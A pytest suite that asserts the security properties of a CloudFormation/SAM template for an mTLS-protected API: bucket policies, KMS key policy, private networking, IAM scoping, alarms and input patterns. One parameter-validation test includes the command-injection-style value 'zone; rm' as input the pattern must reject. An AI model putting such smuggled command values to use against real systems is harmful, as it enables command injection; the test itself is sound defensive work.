"""Security properties of template.yaml. Each test guards one property so a later edit cannot drop it silently."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from cfnlint.decode import cfn_yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from nodegate_authorizer.settings import load_settings

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE: dict[str, Any] = cfn_yaml.load(str(ROOT / "template.yaml"))
RESOURCES = TEMPLATE["Resources"]


def props(name: str) -> dict[str, Any]:
    return RESOURCES[name]["Properties"]


def of_type(kind: str) -> list[dict[str, Any]]:
    return [r for r in RESOURCES.values() if r["Type"] == kind]


def user_data(resources: dict[str, Any] = RESOURCES) -> str:
    """The node's boot script (UserData is ``Fn::Sub`` of the script and its variable map)."""
    script, _ = resources["NodeLaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    return str(script)


def openapi_paths() -> dict[str, Any]:
    return props("NodeApi")["DefinitionBody"]["paths"]


def test_truststore_bucket_is_versioned_private_encrypted_and_tls_only() -> None:
    bucket = props("TruststoreBucket")
    assert bucket["VersioningConfiguration"] == {"Status": "Enabled"}
    assert all(bucket["PublicAccessBlockConfiguration"].values())
    assert len(bucket["PublicAccessBlockConfiguration"]) == 4
    assert bucket["BucketEncryption"]["ServerSideEncryptionConfiguration"][0]["ServerSideEncryptionByDefault"]
    statement = props("TruststoreBucketPolicy")["PolicyDocument"]["Statement"][0]
    assert statement["Effect"] == "Deny"
    assert statement["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}


def test_api_is_regional_with_execute_api_endpoint_disabled() -> None:
    api = props("NodeApi")
    assert api["DisableExecuteApiEndpoint"] is True
    assert api["EndpointConfiguration"] == {"Type": "REGIONAL"}


def test_custom_domain_requires_mtls_with_versioned_truststore_and_tls12() -> None:
    domain = props("ApiDomain")
    assert domain["SecurityPolicy"] == "TLS_1_2"
    assert domain["EndpointConfiguration"] == {"Types": ["REGIONAL"]}
    mtls = domain["MutualTlsAuthentication"]
    assert mtls["TruststoreUri"] == {"Fn::Sub": "s3://${TruststoreBucket}/${TruststoreKey}"}
    assert mtls["TruststoreVersion"] == {"Ref": "TruststoreVersionParameter"}
    assert props("ApiBasePathMapping")["RestApiId"] == {"Ref": "NodeApi"}


def test_access_log_records_client_certificate_serial_and_subject() -> None:
    log_format = props("NodeApi")["AccessLogSetting"]["Format"]
    assert "$context.identity.clientCert.serialNumber" in log_format
    assert "$context.identity.clientCert.subjectDN" in log_format
    assert "$context.authorizer.reason" in log_format


def test_authorizer_function_runtime_and_limits() -> None:
    function = props("AuthorizerFunction")
    globals_ = TEMPLATE["Globals"]["Function"]
    assert (function["CodeUri"], function["Handler"]) == ("src/authorizer", "app.lambda_handler")
    assert re.fullmatch(r"python3\.(1[2-9]|[2-9]\d)", globals_["Runtime"])
    assert globals_["Architectures"] == ["arm64"]
    assert function["ReservedConcurrentExecutions"] == {
        "Fn::If": ["ReserveConcurrency", {"Ref": "AuthorizerConcurrency"}, {"Ref": "AWS::NoValue"}]
    }
    assert TEMPLATE["Parameters"]["AuthorizerConcurrency"]["Default"] > 0  # reserved unless 0 is passed
    assert props("AuthorizerLogGroup")["RetentionInDays"] == {"Ref": "LogRetentionDays"}
    assert function["LoggingConfig"]["LogGroup"] == {"Ref": "AuthorizerLogGroup"}


def test_authorizer_environment_names_are_the_ones_the_code_reads() -> None:
    from nodegate_authorizer.settings import SETTING_NAMES

    variables = props("AuthorizerFunction")["Environment"]["Variables"]
    assert set(SETTING_NAMES) <= set(variables)  # sam local invoke drops variables the template does not declare
    env_file = json.loads((ROOT / "events" / "env.json").read_text())["AuthorizerFunction"]
    assert set(env_file) <= set(variables)
    for name in ("TRUSTSTORE_URI", "TRUSTSTORE_VERSION", "CRL_STORE_URI", "REVOCATION_MODE", "ACCESS_POLICY_URI"):
        assert name in variables
    plain = {k: v for k, v in variables.items() if isinstance(v, str)}
    plain["TRUSTSTORE_URI"] = "s3://bucket-name/truststore.pem"
    load_settings(plain)  # every literal value in the template is a valid setting


def test_authorizer_reads_only_its_objects() -> None:
    statements = props("AuthorizerFunction")["Policies"][0]["Statement"]
    statements = [s["Fn::If"][1] if "Fn::If" in s else s for s in statements]  # conditional ones too (PrivateCa)
    for statement in statements:
        assert "*" not in statement["Action"] if isinstance(statement["Action"], list) else statement["Action"] != "*"
        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [statement["Resource"]]
        assert resources
        assert all(r != "*" for r in resources)
    get = next(s for s in statements if "s3:GetObject" in s["Action"])
    assert sorted(get["Action"]) == ["s3:GetObject", "s3:GetObjectVersion"]
    listing = next(s for s in statements if s["Action"] == "s3:ListBucket")
    assert listing["Condition"] == {"StringLike": {"s3:prefix": ["crls/*"]}}


def test_authorizer_is_a_request_authorizer_without_caching() -> None:
    scheme = props("NodeApi")["DefinitionBody"]["components"]["securitySchemes"]["NodegateAuthorizer"]
    authorizer = scheme["x-amazon-apigateway-authorizer"]
    assert authorizer["type"] == "request"
    assert authorizer["authorizerResultTtlInSeconds"] == 0
    condition, alias, function = authorizer["authorizerUri"]["Fn::If"]
    assert condition == "SnapStartOn"
    assert "${AuthorizerFunctionAliaslive}/invocations" in alias["Fn::Sub"]
    assert "${AuthorizerFunction.Arn}/invocations" in function["Fn::Sub"]


def test_snapstart_is_opt_in_and_the_api_then_calls_the_published_alias() -> None:
    """SnapStart applies to published versions only: the function publishes one behind `live` on every deploy,
    and with AuthorizerSnapStart=true API Gateway invokes (and may invoke) that alias, not $LATEST."""
    parameter = TEMPLATE["Parameters"]["AuthorizerSnapStart"]
    assert (parameter["Default"], parameter["AllowedValues"]) == ("false", ["true", "false"])
    assert TEMPLATE["Conditions"]["SnapStartOn"] == {"Fn::Equals": [{"Ref": "AuthorizerSnapStart"}, "true"]}
    function = props("AuthorizerFunction")
    assert function["AutoPublishAlias"] == "live"
    assert function["SnapStart"] == {"ApplyOn": {"Fn::If": ["SnapStartOn", "PublishedVersions", "None"]}}
    assert props("AuthorizerInvokePermission")["FunctionName"] == {
        "Fn::If": ["SnapStartOn", {"Ref": "AuthorizerFunctionAliaslive"}, {"Fn::GetAtt": ["AuthorizerFunction", "Arn"]}]
    }
    resources = translated(AuthorizerSnapStart="true")["Resources"]
    alias = resources["AuthorizerFunctionAliaslive"]
    assert (alias["Type"], alias["Properties"]["Name"]) == ("AWS::Lambda::Alias", "live")
    version = resources[alias["Properties"]["FunctionVersion"]["Fn::GetAtt"][0]]
    assert version["Type"] == "AWS::Lambda::Version"
    assert resources["AuthorizerFunction"]["Properties"]["SnapStart"] == function["SnapStart"]


def test_every_route_uses_the_authorizer_and_vpc_link_and_overwrites_identity_headers() -> None:
    paths = openapi_paths()
    assert set(paths) == {"/nodes/{nodeId}", "/nodes/{nodeId}/{proxy+}"}
    for path, item in paths.items():
        assert set(item) == {"x-amazon-apigateway-any-method"}
        method = item["x-amazon-apigateway-any-method"]
        assert method["security"] == [{"NodegateAuthorizer": []}]
        integration = method["x-amazon-apigateway-integration"]
        assert (integration["type"], integration["connectionType"]) == ("http_proxy", "VPC_LINK")
        assert integration["connectionId"] == {"Ref": "NodeVpcLink"}
        mapped = integration["requestParameters"]
        assert mapped["integration.request.header.X-Client-Cert-Sub"] == "context.authorizer.clientCertSub"
        assert mapped["integration.request.header.X-User-Id"] == "context.authorizer.userId"
        assert mapped["integration.request.header.X-Node-Id"] == "context.authorizer.nodeId"
        if "proxy" in path:
            assert mapped["integration.request.path.proxy"] == "method.request.path.proxy"


def test_backend_trusts_exactly_the_headers_the_template_sets() -> None:
    from nodegate.local.edge import IDENTITY_HEADERS
    from nodegate_node.assertion import HEADER
    from nodegate_node.server import IDENTITY_HEADERS as BACKEND_HEADERS

    integration = openapi_paths()["/nodes/{nodeId}"]["x-amazon-apigateway-any-method"][
        "x-amazon-apigateway-integration"
    ]
    template_headers = {
        k.split(".")[-1].lower(): v.split(".")[-1]
        for k, v in integration["requestParameters"].items()
        if k.startswith("integration.request.header.")
    }
    assert template_headers == IDENTITY_HEADERS
    assert {h.lower() for h in (*BACKEND_HEADERS, HEADER)} == set(template_headers)
    assert template_headers[HEADER.lower()] == "assertion"  # the signed assertion the node believes


def test_only_the_authorizer_role_can_sign_node_assertions() -> None:
    """Another REST API on the account-wide VPC link can send any headers, but cannot make the assertion: only
    the authorizer's role may use the KMS key to sign; the account administers it without kms:Sign."""
    key = props("AssertionKey")
    assert (key["KeySpec"], key["KeyUsage"]) == ("ECC_NIST_P256", "SIGN_VERIFY")
    statements = key["KeyPolicy"]["Statement"]
    assert all(s["Effect"] == "Allow" for s in statements)
    signers = [s for s in statements if "kms:Sign" in [s.get("Action")] or s.get("Action") in ("kms:*", "*")]
    assert [s["Principal"] for s in signers] == [{"AWS": {"Fn::GetAtt": ["AuthorizerFunctionRole", "Arn"]}}]
    assert signers[0]["Condition"] == {"StringEquals": {"kms:SigningAlgorithm": "ECDSA_SHA_256"}}
    others = [s for s in statements if s not in signers]
    assert all(s.get("NotAction") == "kms:Sign" and "Action" not in s for s in others)
    env = props("AuthorizerFunction")["Environment"]["Variables"]
    assert env["ASSERTION_KEY_ID"] == {"Fn::GetAtt": ["AssertionKey", "Arn"]}


def test_nodes_verify_assertions_with_the_kms_public_key() -> None:
    script = user_data()
    assert "aws kms get-public-key --region ${AWS::Region} --key-id ${AssertionKey.Arn}" in script
    assert "--assertion-key /etc/nodegate/assertion-key.b64" in script
    statements = [s for p in props("NodeRole")["Policies"] for s in p["PolicyDocument"]["Statement"]]
    kms = [s for s in statements if str(s["Action"]).startswith("kms:")]
    assert kms == [
        {"Effect": "Allow", "Action": "kms:GetPublicKey", "Resource": {"Fn::GetAtt": ["AssertionKey", "Arn"]}}
    ]
    endpoint = props("KmsEndpoint")["PolicyDocument"]["Statement"]
    assert [(s["Action"], s["Resource"]) for s in endpoint] == [
        ("kms:GetPublicKey", {"Fn::GetAtt": ["AssertionKey", "Arn"]})
    ]
    assert "KmsEndpoint" in RESOURCES["NodeGroup"]["DependsOn"]


def test_network_is_private_nlb_internal_and_node_locked_down() -> None:
    for subnet in of_type("AWS::EC2::Subnet"):
        assert subnet["Properties"]["MapPublicIpOnLaunch"] is False
    assert not of_type("AWS::EC2::InternetGateway")
    assert not of_type("AWS::EC2::NatGateway")
    nlb = props("NodeLoadBalancer")
    assert (nlb["Type"], nlb["Scheme"]) == ("network", "internal")
    assert props("NodeVpcLink")["TargetArns"] == [{"Ref": "NodeLoadBalancer"}]
    assert nlb["SecurityGroups"] == [{"Ref": "NodeLoadBalancerSecurityGroup"}]
    assert "SecurityGroupIngress" not in props("NodeSecurityGroup")  # only the rule below admits anything
    ingress = [r["Properties"] for r in of_type("AWS::EC2::SecurityGroupIngress")]
    assert ingress == [props("NodesFromLoadBalancer")]
    assert ingress[0]["GroupId"] == {"Ref": "NodeSecurityGroup"}
    assert ingress[0]["SourceSecurityGroupId"] == {"Ref": "NodeLoadBalancerSecurityGroup"}
    assert ingress[0]["FromPort"] == ingress[0]["ToPort"] == {"Ref": "NodePort"}
    egress = props("NodeLoadBalancerToNodes")
    assert (egress["DestinationSecurityGroupId"], egress["FromPort"]) == (
        {"Ref": "NodeSecurityGroup"},
        {"Ref": "NodePort"},
    )
    instance = props("NodeLaunchTemplate")["LaunchTemplateData"]
    assert instance["MetadataOptions"]["HttpTokens"] == "required"
    assert "KeyName" not in instance
    assert instance["SecurityGroupIds"] == [{"Ref": "NodeSecurityGroup"}]
    assert "ManagedPolicyArns" not in props("NodeRole")  # AmazonSSMManagedInstanceCore reads every parameter


def test_node_backend_installed_as_systemd_service_from_packaged_code() -> None:
    assert props("NodeCodeLayer")["ContentUri"] == "src/node"
    script = user_data()
    assert "get-layer-version-by-arn" in script
    assert "systemctl enable --now nodegate-node" in script
    assert "python3 -m nodegate_node" in script
    assert "echo ${NodeRoutesBase64} | base64 -d > /etc/nodegate/routes.json" in script
    assert "--routes /etc/nodegate/routes.json" in script


def test_node_routes_default_is_a_valid_routes_file(tmp_path: Path) -> None:
    from nodegate_node.server import load_routes

    (tmp_path / "routes.json").write_text(TEMPLATE["Parameters"]["NodeRoutes"]["Default"])
    assert load_routes(str(tmp_path / "routes.json")) == {}


def test_outputs_give_domain_curl_bucket_and_function() -> None:
    outputs = TEMPLATE["Outputs"]
    assert {"ApiDomainName", "CurlExample", "TruststoreBucketName", "AuthorizerFunctionName"} <= set(outputs)
    assert "--cert" in outputs["CurlExample"]["Value"]["Fn::Sub"]


def test_checkov_suppressions_are_justified() -> None:
    for name, resource in RESOURCES.items():
        for skip in resource.get("Metadata", {}).get("checkov", {}).get("skip", []):
            assert len(skip.get("comment", "")) > 20, f"{name}: {skip['id']} needs a justification"


def translated(**parameters: str) -> dict[str, Any]:
    """The template as CloudFormation receives it after `sam build && sam deploy` (samtranslator)."""
    import copy
    import json
    import os

    from samtranslator.translator.transform import transform

    class NoManagedPolicies:
        def load(self) -> dict[str, str]:
            return {}

    template = copy.deepcopy(json.loads(json.dumps(TEMPLATE)))
    for function in ("AuthorizerFunction", "CrlMirrorFunction"):
        template["Resources"][function]["Properties"]["CodeUri"] = "s3://bucket/authorizer.zip"
    template["Resources"]["NodeCodeLayer"]["Properties"]["ContentUri"] = "s3://bucket/node.zip"
    os.environ.setdefault("AWS_DEFAULT_REGION", "us-east-1")
    return transform(template, parameters, NoManagedPolicies())  # type: ignore[no-any-return]


def references(node: Any, names: set[str]) -> set[str]:
    """Logical ids and parameters that ``node`` refers to (Ref, GetAtt, Sub), whatever branch of an If."""
    found: set[str] = set()
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "Ref" and value in names:
                found.add(value)
            elif key == "Fn::GetAtt":
                found |= {value[0] if isinstance(value, list) else value.split(".")[0]} & names
            elif key == "Fn::Sub":
                text = value if isinstance(value, str) else value[0]
                found |= {m.split(".")[0] for m in re.findall(r"\$\{([^}!]+)\}", text)} & names
                if isinstance(value, list):
                    found |= references(value[1], names)
            else:
                found |= references(value, names)
    elif isinstance(node, list):
        for value in node:
            found |= references(value, names)
    return found


def dependencies(resources: dict[str, Any], name: str) -> set[str]:
    """Everything ``name`` waits for, directly or through other resources (Ref, GetAtt, Sub, DependsOn)."""
    names = set(resources)
    seen: set[str] = set()
    todo = [name]
    while todo:
        resource = resources[todo.pop()]
        depends = resource.get("DependsOn", [])
        direct = references(resource.get("Properties", {}), names) | set(
            [depends] if isinstance(depends, str) else depends
        )
        for found in direct - seen:
            seen.add(found)
            todo.append(found)
    return seen


def test_translated_stage_waits_for_the_account_logging_role_when_the_stack_sets_it() -> None:
    resources = translated(CreateApiGatewayAccountRole="true")["Resources"]
    stage = next(name for name, r in resources.items() if r["Type"] == "AWS::ApiGateway::Stage")
    assert "AccessLogSetting" in resources[stage]["Properties"]
    assert "ApiGatewayAccount" in dependencies(resources, stage)
    assert TEMPLATE["Parameters"]["CreateApiGatewayAccountRole"]["Default"] == "false"  # opt-in


def test_translated_nodes_wait_for_their_endpoints_and_a_broken_node_fails_the_deploy() -> None:
    resources = translated()["Resources"]
    waits = dependencies(resources, "NodeGroup")
    endpoints = {"S3Endpoint", "LambdaEndpoint", "CloudFormationEndpoint", "SsmEndpoint", "SsmMessagesEndpoint"}
    assert endpoints <= waits
    group = resources["NodeGroup"]
    assert group["CreationPolicy"]["ResourceSignal"]["Count"] == {"Ref": "NodeCount"}
    rolling = group["UpdatePolicy"]["AutoScalingRollingUpdate"]
    assert (rolling["MinInstancesInService"], rolling["MaxBatchSize"], rolling["WaitOnResourceSignals"]) == (1, 1, True)
    assert group["Properties"]["VPCZoneIdentifier"] == [{"Ref": "PrivateSubnetA"}, {"Ref": "PrivateSubnetB"}]
    assert group["Properties"]["HealthCheckType"] == "ELB"
    assert group["Properties"]["TargetGroupARNs"] == [{"Ref": "NodeTargetGroup"}]
    assert TEMPLATE["Parameters"]["NodeCount"]["Default"] >= 2
    script = user_data(resources)
    assert "--logical-resource-id NodeGroup" in script
    assert "signal SUCCESS" in script
    assert "trap 'signal FAILURE' ERR" in script
    assert "retry aws lambda get-layer-version-by-arn" in script
    assert "retry curl -fsS -o /dev/null http://127.0.0.1:${NodePort}/healthz" in script
    statements = [s for p in resources["NodeRole"]["Properties"]["Policies"] for s in p["PolicyDocument"]["Statement"]]
    assert {
        "Effect": "Allow",
        "Action": "cloudformation:SignalResource",
        "Resource": {"Ref": "AWS::StackId"},
    } in statements


def test_a_truststore_rotation_touches_only_the_domain_and_the_authorizer() -> None:
    """publish-truststore changes the version TruststoreVersionParameter resolves to: nothing on the node path
    may change."""
    resources = translated()["Resources"]
    parameters = {"TruststoreVersionParameter"}
    touched = {name for name, r in resources.items() if references(r.get("Properties", {}), parameters)}
    readers = {"AuthorizerFunction", "AuthorizerFunctionRole", "CrlMirrorFunction", "CrlMirrorFunctionRole"}
    assert touched <= {"ApiDomain", "TruststoreBucketPolicy", *readers}
    assert not {name for name in touched if name.startswith("Node")}
    assert TEMPLATE["Parameters"]["NodeAmiId"]["Type"] == "AWS::EC2::Image::Id"  # not re-resolved on update


def test_every_template_name_the_readme_mentions_exists() -> None:
    readme = (ROOT / "README.md").read_text()
    names = set(re.findall(r"`([A-Z][a-z]+(?:[A-Z][A-Za-z0-9]*)+)`", readme))
    metrics = {"RevocationSoftFail", "RevocationSourceTooLarge", "TruststoreEntrySkipped"} | mirror_metric_names()
    known = set(TEMPLATE["Parameters"]) | set(RESOURCES) | set(TEMPLATE["Outputs"])
    assert names - metrics <= known, sorted(names - metrics - known)


def mirror_metric_names() -> set[str]:
    """Every metric name the CRL mirror publishes (a run that worked, and one that could not start)."""
    from nodegate_authorizer.mirror import Freshness, MirrorReport
    from nodegate_authorizer.mirror_handler import metric_values

    reports = (MirrorReport(freshness=(Freshness("CN=x", 0.0, 0.0),)), MirrorReport(error="x"))
    return {name for report in reports for name, _, _ in metric_values(report)}


def alarm_metrics(alarm: dict[str, Any]) -> list[tuple[str, str]]:
    """(namespace, metric name) of every metric an alarm reads, a metric-math alarm's included."""
    if "MetricName" in alarm:
        return [(alarm["Namespace"], alarm["MetricName"])]
    stats = [m["MetricStat"]["Metric"] for m in alarm["Metrics"] if "MetricStat" in m]
    return [(m["Namespace"], m["MetricName"]) for m in stats]


def test_alarms_and_dashboard_watch_the_metrics_the_authorizer_emits() -> None:
    from nodegate_authorizer.handler import DENY_METRIC, decision_metric
    from nodegate_authorizer.reasons import Reason

    emitted = {"RevocationSourceFailure", "RevocationSourceTooLarge", "RevocationSoftFail", "TruststoreEntrySkipped"}
    emitted |= {decision_metric(None), DENY_METRIC}
    emitted |= {decision_metric(reason) for reason in Reason}
    emitted |= mirror_metric_names()
    alarms = {name: r["Properties"] for name, r in RESOURCES.items() if r["Type"] == "AWS::CloudWatch::Alarm"}
    read = {metric for alarm in alarms.values() for metric in alarm_metrics(alarm)}
    assert {name for namespace, name in read if namespace == "nodegate"} <= emitted
    assert {namespace for namespace, _ in read} == {"nodegate", "AWS/Lambda", "AWS/ApiGateway", "AWS/NetworkELB"}
    for alarm in alarms.values():
        assert alarm["AlarmActions"] == [ALARM_TOPIC]  # a topic always: the stack's own when none is given
    body = props("DecisionsDashboard")["DashboardBody"]["Fn::Sub"]
    shown = set(re.findall(r'\["nodegate", "([A-Za-z]+)"', body))
    assert shown <= emitted
    assert {decision_metric(reason) for reason in Reason} | {"Allow"} <= shown  # issue 18 item 5: every reason


DENY_EVERYONE = ("TRUSTSTORE_UNAVAILABLE", "POLICY_UNAVAILABLE", "CONFIG_INVALID", "ASSERTION_UNAVAILABLE")


def test_every_deny_everyone_reason_pages_at_once_and_shows_on_the_dashboard() -> None:
    """Issue 18 item 5: a broken truststore, policy or setting denies everyone: one such deny pages within a
    minute or five (Api5xxAlarm never sees them: they are 403s)."""
    from nodegate_authorizer.handler import decision_metric
    from nodegate_authorizer.reasons import Reason

    alarms = {n: r["Properties"] for n, r in RESOURCES.items() if r["Type"] == "AWS::CloudWatch::Alarm"}
    body = props("DecisionsDashboard")["DashboardBody"]["Fn::Sub"]
    for reason in DENY_EVERYONE:
        metric = decision_metric(Reason(reason))
        [(name, alarm)] = [(n, a) for n, a in alarms.items() if a.get("MetricName") == metric]
        assert (alarm["Threshold"], alarm["Statistic"], alarm["EvaluationPeriods"]) == (1, "Sum", 1), reason
        assert alarm["Period"] <= 300
        assert reason in alarm["AlarmDescription"] or "KMS" in alarm["AlarmDescription"]
        assert "${" + name + ".Arn}" in body  # the alarm-status widget


def test_a_rise_of_denies_of_any_reason_pages() -> None:
    """Issue 18 item 5: every deny counts in one metric, and more than half of the decisions in 5 minutes being
    denies (at least SecurityDenyThreshold of them) pages (docs/decisions.md)."""
    alarm = props("DenyRiseAlarm")
    stats = {m["Id"]: m["MetricStat"] for m in alarm["Metrics"] if "MetricStat" in m}
    assert {i: s["Metric"]["MetricName"] for i, s in stats.items()} == {"denies": "Deny", "allows": "Allow"}
    assert {s["Period"] for s in stats.values()} == {300}
    [result] = [m for m in alarm["Metrics"] if m.get("ReturnData")]
    expression = result["Expression"]["Fn::Sub"]
    assert expression.startswith("IF(FILL(denies, 0) >= ${SecurityDenyThreshold}, ")
    assert "100 * FILL(denies, 0) / (FILL(denies, 0) + FILL(allows, 0))" in expression
    assert (alarm["Threshold"], alarm["ComparisonOperator"]) == (50, "GreaterThanThreshold")
    assert len(alarm["Metrics"]) <= 10  # CloudWatch's limit for a metric-math alarm


def test_dns_alias_record_is_optional_and_outputs_give_the_alias_target() -> None:
    """Issue 18 item 3: HostedZoneId creates the alias A record; the outputs give the regional name and zone
    id for doing it by hand; CurlExample exists only with the domain."""
    assert TEMPLATE["Parameters"]["HostedZoneId"]["Default"] == ""
    assert TEMPLATE["Conditions"]["CreateDnsRecord"] == {
        "Fn::And": [{"Condition": "HasTruststoreVersion"}, {"Fn::Not": [{"Fn::Equals": [{"Ref": "HostedZoneId"}, ""]}]}]
    }
    record = RESOURCES["ApiDnsRecord"]
    assert record["Condition"] == "CreateDnsRecord"
    assert (record["Properties"]["Name"], record["Properties"]["Type"]) == ({"Ref": "DomainName"}, "A")
    assert record["Properties"]["AliasTarget"] == {
        "DNSName": {"Fn::GetAtt": ["ApiDomain", "RegionalDomainName"]},
        "HostedZoneId": {"Fn::GetAtt": ["ApiDomain", "RegionalHostedZoneId"]},
        "EvaluateTargetHealth": False,
    }
    outputs = TEMPLATE["Outputs"]
    assert outputs["ApiDomainHostedZoneId"]["Value"] == {"Fn::GetAtt": ["ApiDomain", "RegionalHostedZoneId"]}
    for name in ("ApiDomainName", "ApiDomainTarget", "ApiDomainHostedZoneId", "CurlExample"):
        assert outputs[name]["Condition"] == RESOURCES["ApiDomain"]["Condition"], name
    pattern = TEMPLATE["Parameters"]["HostedZoneId"]["AllowedPattern"]
    assert re.fullmatch(pattern, "Z0123456789ABCDEFGHIJ")
    assert not re.fullmatch(pattern, "zone; rm")


def test_node_egress_to_upstreams_is_opt_in_and_stays_inside_the_vpc() -> None:
    """Issue 18 item 4: NodeRoutes upstreams on other VPC hosts get their port (or range) and nothing wider."""
    rule = RESOURCES["NodeEgressToUpstreams"]
    assert rule["Condition"] == "HasUpstreamPorts"
    properties = rule["Properties"]
    assert (properties["GroupId"], properties["CidrIp"], properties["IpProtocol"]) == (
        {"Ref": "NodeSecurityGroup"},
        {"Ref": "VpcCidr"},
        "tcp",
    )
    assert properties["FromPort"] == {"Fn::Select": [0, {"Fn::Split": ["-", {"Ref": "NodeUpstreamPorts"}]}]}
    upper = {"Fn::Select": [1, {"Fn::Split": ["-", {"Fn::Sub": "${NodeUpstreamPorts}-${NodeUpstreamPorts}"}]}]}
    assert properties["ToPort"] == upper
    for ports, bounds in (("9000", ("9000", "9000")), ("9000-9100", ("9000", "9100"))):  # Select/Split/Sub
        assert (ports.split("-")[0], f"{ports}-{ports}".split("-")[1]) == bounds
    pattern = TEMPLATE["Parameters"]["NodeUpstreamPorts"]["AllowedPattern"]
    for good in ("", "9000", "9000-9100"):
        assert re.fullmatch(pattern, good)
    for bad in ("0.0.0.0/0", "9000,9001", "-1", "all"):
        assert not re.fullmatch(pattern, bad)


def _bucket_denies(action: str, resource: str) -> list[dict[str, Any]]:
    """The bucket policy's Deny statements that cover ``action`` on ``resource`` (IAM wildcard matching)."""
    import fnmatch

    found = []
    for listed in props("TruststoreBucketPolicy")["PolicyDocument"]["Statement"]:
        statement = listed["Fn::If"][1] if "Fn::If" in listed else listed  # a conditional statement, when on
        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
        resources = statement.get("Resource", [])
        resources = resources if isinstance(resources, list) else [resources]
        covered = any(fnmatch.fnmatchcase(action, a) for a in actions)
        if statement["Effect"] == "Deny" and covered and resource in [json.dumps(r) for r in resources]:
            found.append(statement)
    return found


def test_only_the_publisher_and_deployer_can_write_the_root_of_trust() -> None:
    """Issue 22 item 1: AmazonS3FullAccess elsewhere in the account cannot rewrite crls/*, the truststore or
    the access policy, nor change the bucket's policy, versioning or lifecycle."""
    mirror = {"Fn::If": ["MirrorEnabled", {"Fn::GetAtt": ["CrlMirrorFunctionRole", "Arn"]}, {"Ref": "AWS::NoValue"}]}
    writers = {"ArnNotEquals": {"aws:PrincipalArn": [{"Ref": "PublisherRoleArn"}, {"Ref": "DeployRoleArn"}, mirror]}}
    bucket_writers = {"ArnNotEquals": {"aws:PrincipalArn": [{"Ref": "PublisherRoleArn"}, {"Ref": "DeployRoleArn"}]}}
    objects = json.dumps({"Fn::Sub": "${TruststoreBucket.Arn}/*"})
    bucket = json.dumps({"Fn::GetAtt": ["TruststoreBucket", "Arn"]})
    for action in ("s3:PutObject", "s3:DeleteObject", "s3:DeleteObjectVersion", "s3:PutObjectAcl", "s3:RestoreObject"):
        denies = [s for s in _bucket_denies(action, objects) if s.get("Condition") == writers]
        assert denies, action
        assert denies[0]["Principal"] == "*", action
    for action in (
        "s3:PutBucketPolicy",
        "s3:DeleteBucketPolicy",
        "s3:PutBucketVersioning",
        "s3:PutLifecycleConfiguration",
        "s3:PutReplicationConfiguration",
        "s3:PutBucketNotification",
        "s3:PutBucketPublicAccessBlock",
        "s3:PutEncryptionConfiguration",
        "s3:PutBucketObjectLockConfiguration",
    ):
        assert [s for s in _bucket_denies(action, bucket) if s.get("Condition") == bucket_writers], action
    statements = props("TruststoreBucketPolicy")["PolicyDocument"]["Statement"]
    (confined,) = [s["Fn::If"] for s in statements if "Fn::If" in s]
    assert confined[0] == "MirrorEnabled"
    assert confined[1]["NotResource"] == {"Fn::Sub": "${TruststoreBucket.Arn}/crls/mirror-*"}
    assert confined[1]["Condition"] == {"ArnEquals": {"aws:PrincipalArn": mirror["Fn::If"][1]}}
    assert not _bucket_denies("s3:GetObject", objects) or all(
        "SecureTransport" in json.dumps(s) for s in _bucket_denies("s3:GetObject", objects)
    )
    for name in ("PublisherRoleArn", "DeployRoleArn"):
        parameter = TEMPLATE["Parameters"][name]
        assert "Default" not in parameter  # required: no deploy without naming who may write
        assert re.fullmatch(parameter["AllowedPattern"], "arn:aws:iam::123456789012:role/ci/nodegate-publisher")
        assert not re.fullmatch(parameter["AllowedPattern"], "*")
        assert not re.fullmatch(parameter["AllowedPattern"], "arn:aws:iam::123456789012:user/alice")


def test_access_policy_is_read_at_a_pinned_version() -> None:
    env = props("AuthorizerFunction")["Environment"]["Variables"]
    assert env["ACCESS_POLICY_VERSION"] == {"Ref": "AccessPolicyVersion"}
    rule = TEMPLATE["Rules"]["AccessPolicyIsPinned"]
    assert rule["RuleCondition"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "AccessPolicyKey"}, ""]}]}
    assert rule["Assertions"][0]["Assert"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "AccessPolicyVersion"}, ""]}]}


ALARM_TOPIC = {"Fn::If": ["CreateAlarmTopic", {"Ref": "AlarmTopic"}, {"Ref": "AlarmTopicArn"}]}


def test_writes_to_the_root_of_trust_and_configuration_changes_page_the_alarm_topic() -> None:
    assert props("TruststoreBucket")["NotificationConfiguration"] == {
        "EventBridgeConfiguration": {"EventBridgeEnabled": True}
    }
    objects = props("TruststoreObjectChangeRule")
    assert objects["EventPattern"]["source"] == ["aws.s3"]
    assert {"Object Created", "Object Deleted"} <= set(objects["EventPattern"]["detail-type"])
    assert objects["EventPattern"]["detail"] == {"bucket": {"name": [{"Ref": "TruststoreBucket"}]}}
    changes = props("TrustConfigurationChangeRule")["EventPattern"]
    assert changes["detail-type"] == ["AWS API Call via CloudTrail"]
    by_source: dict[str, Any] = {}
    for branch in changes["$or"]:
        by_source.setdefault(branch["source"][0], branch["detail"])  # the first branch of each source
    assert set(by_source) == {
        "aws.lambda",
        "aws.kms",
        "aws.s3",
        "aws.apigateway",
        "aws.servicediscovery",
        "aws.events",
        "aws.ssm",
    }
    # issue 18 item 1: the published truststore version lives in Parameter Store; a write there pages
    assert by_source["aws.ssm"]["requestParameters"] == {"name": [{"suffix": "/truststore-version"}]}
    assert "PutParameter" in by_source["aws.ssm"]["eventName"]
    assert TEMPLATE["Parameters"]["TruststoreVersionParameter"]["Default"].endswith("/truststore-version")
    function = by_source["aws.lambda"]
    assert {"Ref": "AuthorizerFunction"} in function["requestParameters"]["functionName"]
    assert {"prefix": "UpdateFunction"} in function["eventName"]  # UpdateFunctionCode/Configuration20150331v2
    assert by_source["aws.kms"]["resources"] == {"ARN": [{"Fn::GetAtt": ["AssertionKey", "Arn"]}]}
    assert "PutKeyPolicy" in by_source["aws.kms"]["eventName"]
    assert {"PutBucketPolicy", "DeleteBucketPolicy", "PutBucketVersioning", "PutBucketLifecycle"} <= set(
        by_source["aws.s3"]["eventName"]
    )
    assert by_source["aws.s3"]["requestParameters"] == {"bucketName": [{"Ref": "TruststoreBucket"}]}
